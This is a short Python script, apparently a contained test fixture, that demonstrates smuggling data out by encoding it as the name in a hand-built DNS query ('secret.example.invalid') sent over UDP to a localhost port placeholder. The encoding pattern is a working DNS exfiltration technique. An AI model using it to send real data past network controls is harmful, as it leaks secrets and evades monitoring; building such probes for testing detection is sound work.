"""Smuggle data out as the name in a DNS query.

Contained: the listener is not reached.
"""

import socket

name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"invalid")) + b"\0"
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\x01\0\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", int("@UDP_PORT@")))
